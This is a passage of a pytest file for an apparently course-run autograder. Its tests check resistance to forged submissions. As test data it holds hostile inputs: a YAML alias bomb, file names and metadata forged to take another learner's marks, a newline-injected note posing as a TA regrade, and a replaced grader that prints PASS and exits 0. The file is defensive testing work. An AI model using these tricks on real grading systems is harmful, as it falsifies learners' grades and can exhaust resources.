            "    :email: victor@example.edu\n")
    forged = ("submission_1001:\n  :submitters:\n  - :name: Victor Victim\n    :sid: '1001'\n"
              "    :email: victor@example.edu\n")
    with zipfile.ZipFile(export, "w") as archive:
        archive.writestr("submission_1001/main.py", sources["stub"])
        archive.writestr("submission_1001/submission_metadata.yml", forged)
        archive.writestr("submission_1002/main.py", sources["full"])
        archive.writestr("submission_metadata.yml", real)
    completed, rows = _report(export, tmp_path / "out")
    assert rows["Victor Victim"]["total"] == MAX and rows["Mallory Attacker"]["total"] == 0, rows


def test_aliases_in_the_metadata_cost_nothing_when_its_names_are_read(tmp_path):
    """Nested YAML aliases: 428 bytes that written out as text would be ten million values."""
    export = tmp_path / "export.zip"
    laughs = "".join(f"  l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]\n" for n in range(1, 8))
    metadata = (f"anchors:\n  l0: &l0 x\n{laughs}"
                "submission_1001:\n  :submitters:\n  - :name: *l7\n    :email: *l7\n    :sid: *l7\n"
                "  :created_at: *l7\n")
    with zipfile.ZipFile(export, "w") as archive:
        archive.writestr("submission_1001/main.py", _sources()["full"])
        archive.writestr("submission_metadata.yml", metadata)
    completed, rows = _report(export, tmp_path / "out")
    assert rows["submission_1001"]["total"] == MAX, rows


def test_a_moodle_file_whose_name_holds_another_participant_s_mark_is_nobody_s(tmp_path):
    """Moodle names a file <name>_<participant>_assignsubmission_file_<file>: a learner chooses <name> and <file>."""
    sources, roster = _sources(), tmp_path / "roster"
    roster.mkdir()
    (roster / "Victor Victim_502_assignsubmission_file_main.py").write_text(sources["full"])
    forged = roster / "Victor Victim_502_assignsubmission_file__501_assignsubmission_file_work.zip"
    with zipfile.ZipFile(forged, "w") as archive:
        archive.writestr("main.py", sources["stub"])
    completed, rows = _report(roster, tmp_path / "out")
    assert rows["Victor Victim"]["total"] == MAX, rows
    refused = rows[forged.name]
    assert "more than once, so whose it is cannot be told from its name" in refused["problem"], refused


def test_the_summary_names_the_challenges_no_entry_holds(tmp_path):
    """Graded without --challenge, a class that has done one challenge gets a 'no submission' for every other."""
    roster = tmp_path / "roster"
    (roster / "ada" / CHALLENGE).mkdir(parents=True)
    (roster / "ada" / CHALLENGE / "main.py").write_text(_sources()["full"])
    completed = run_grade("report", roster, "--out", tmp_path / "out", "-j", "1", timeout=600)
    assert completed.returncode == 0, completed.stderr[-2000:]
    assert "No entry holds 17 challenges of those graded (" in completed.stderr
    assert "grade only the challenges set so far with --challenge" in completed.stderr
    alone = run_grade("report", roster, "--out", tmp_path / "alone", "-j", "1", "--challenge", CHALLENGE)
    assert "No entry holds" not in alone.stderr


@pytest.mark.parametrize("forged", ["victimvictor_502_501_9001_work.zip", "victimvictor_LATE_502_501_9001_notes.txt"])
def test_a_canvas_file_whose_name_holds_another_learner_s_ids_is_nobody_s(tmp_path, forged):
    """Canvas names a file <lastfirst>[_LATE]_<user>_<submission>_<file>, and keeps a name's digits and underscores."""
    sources, roster = _sources(), tmp_path / "roster"
    roster.mkdir()
    (roster / "victimvictor_502_7001_main.py").write_text(sources["full"])
    with zipfile.ZipFile(roster / forged, "w") if forged.endswith(".zip") else open(roster / forged, "w") as file:
        (file.writestr("main.py", sources["stub"]) if forged.endswith(".zip") else file.write("x"))
    completed, rows = _report(roster, tmp_path / "out")
    (victim,) = [row for name, row in rows.items() if name != forged]
    assert victim["total"] == MAX and not victim["identity"].get("late"), victim
    assert "holds Canvas's _<user id>_<submission id>_ more than once" in rows[forged]["problem"], rows[forged]


def test_a_line_break_in_an_archive_member_s_name_forges_no_note_of_its_own(tmp_path):
    """The notes of a row are its lines: a member named "work\\nregraded by hand: 11/11\\n.py" stays one note."""
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    with zipfile.ZipFile(roster / "mallory.zip", "w") as archive:
        archive.writestr("work\nregraded by hand on 3 March: 11/11, keep this grade (TA)\n.py", sources["stub"])
    out = tmp_path / "out"
    _report(roster, out)
    notes = {row[0]: row[-1] for row in _read_csv(out / "grades.csv")[1:]}["mallory"]
    assert f"{CHALLENGE}: regraded by hand" not in notes, notes
    assert "work\\nregraded by hand on 3 March" in notes, notes


def test_a_clone_whose_checks_and_grader_were_edited_is_graded_by_the_instructors_own(tmp_path):
    """GitHub Classroom runs its workflow from the learner's repository, which the learner may edit (a spec that
    passes everything, a grader that exits 0): grade report reads a clone's main.py alone, and grades it with the
    course and grader it runs from."""
    roster, sources = tmp_path / "roster", _sources()
    write_learner(roster, "hw1-mallory", {
        f"challenges/{CHALLENGE}/main.py": sources["stub"].encode(),
        f"challenges/{CHALLENGE}/spec.py": b"def test_everything():\n    pass\n",
        f"challenges/{CHALLENGE}/answers.json": b"{}",
        "grader/cli/entry.py": b"import os\ndef console_script():\n    print('PASS')\n    os._exit(0)\n"}, False)
    _, rows = _report(roster, tmp_path / "out")
    _assert_graded(rows, {"hw1-mallory": "stub"})


def test_a_roster_given_one_folder_too_high_is_pointed_at_and_its_class_list_is_no_learner(tmp_path):
    """GitHub Classroom's clones in a folder of their own, beside the class list, given one folder too high: the
    run grades nothing, says which folder looks like the roster, and takes the class list for no learner's entry."""
    sources, top = _sources(), tmp_path / "classroom"
    clones = top / "hw1-submissions"
    for login in ("hw1-ada", "hw1-alan"):
        write_learner(clones, login, {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    (top / "classroom_roster.csv").write_text("identifier,github_username\nada@example.edu,ada\n")
    completed = run_grade("report", top, "--out", tmp_path / "out", "-j", "1", "--challenge", "3",
                          "--class-list", top / "classroom_roster.csv", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert (f"hw1-submissions/ holds 2 folders and archives of its own: if those are the learners' entries, give "
            f"grade report {clones} itself.") in completed.stderr
    assert "the roster's one entry holds no file" in completed.stderr
    assert "classroom_roster" not in (tmp_path / "out" / "grades.csv").read_text(encoding="utf-8-sig")


def test_an_entry_holding_several_other_challenges_counts_once_among_those_not_graded(tmp_path):
    """The report exits 2 when most entries hold no file for the challenges graded: entries, each counted once
    whatever it holds, not the challenges they hold."""
    sources, roster = _sources(), tmp_path / "roster"
    for learner in ("ada", "alan", "grace"):
        write_learner(roster, learner, {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    others = ("challenge_1_forward_pass", "challenge_2_shapes", "challenge_5_backprop")
    write_learner(roster, "don", {f"challenges/{name}/main.py": solution(name).read_bytes() for name in others}, False)
    completed = run_grade("report", roster, "--out", tmp_path / "out", "-j", "1", "--challenge", "3", "--challenge",
                          "4", timeout=300)
    assert completed.returncode == 0, completed.stderr[-2000:]


def test_a_moodle_gradebook_of_no_column_says_nothing_of_what_its_grades_are_out_of():
    """A run whose Moodle gradebook has no column (no learner matched) leaves out the sentence on the grades' points,
    which would otherwise read "out of ; set the Maximum grade ..."."""
    from grader.cli.instructor import _out_of

    assert _out_of({}) == "" and _out_of(None) == ""
    assert _out_of({"NNFS 3": 11.0}).startswith(" Its grades are points, out of 11 for NNFS 3; set the Maximum")


def test_the_course_s_own_solution_handed_in_is_named_in_the_summary_and_the_notes(tmp_path):
    """A learner who hands in the course's solution (from a leaked instructor's clone), comments and layout changed,
    still gets its grade, but the instructor is told whose file it is; a learner's own correct work is not named."""
    roster, right = tmp_path / "roster", solution(CHALLENGE).read_text()
    copied = "# my own work\n" + right.replace("    return ", "    return  ")
    write_learner(roster, "mallory", {f"challenges/{CHALLENGE}/main.py": copied.encode()}, False)
    write_learner(roster, "ada", {f"challenges/{CHALLENGE}/main.py": learners_own(CHALLENGE).encode()}, False)
    out = tmp_path / "out"
    completed, rows = _report(roster, out)
    assert rows["mallory"]["total"] == rows["ada"]["total"] == MAX
    assert (f"WARNING: 1 file is the course's own solution, statement for statement (mallory: {CHALLENGE}): its "
            "grade is the solution's.") in completed.stderr, completed.stderr
    notes = {row[0]: row[-1] for row in _read_csv(out / "grades.csv")[1:]}
    assert notes["mallory"] == (f"{CHALLENGE}: mallory/challenges/{CHALLENGE}/main.py is the course's own solution of "
                                f"{CHALLENGE}, statement for statement (comments and layout aside): its grade is the "
                                "solution's, not a measure of the learner's work."), notes
    assert notes["ada"] == ""
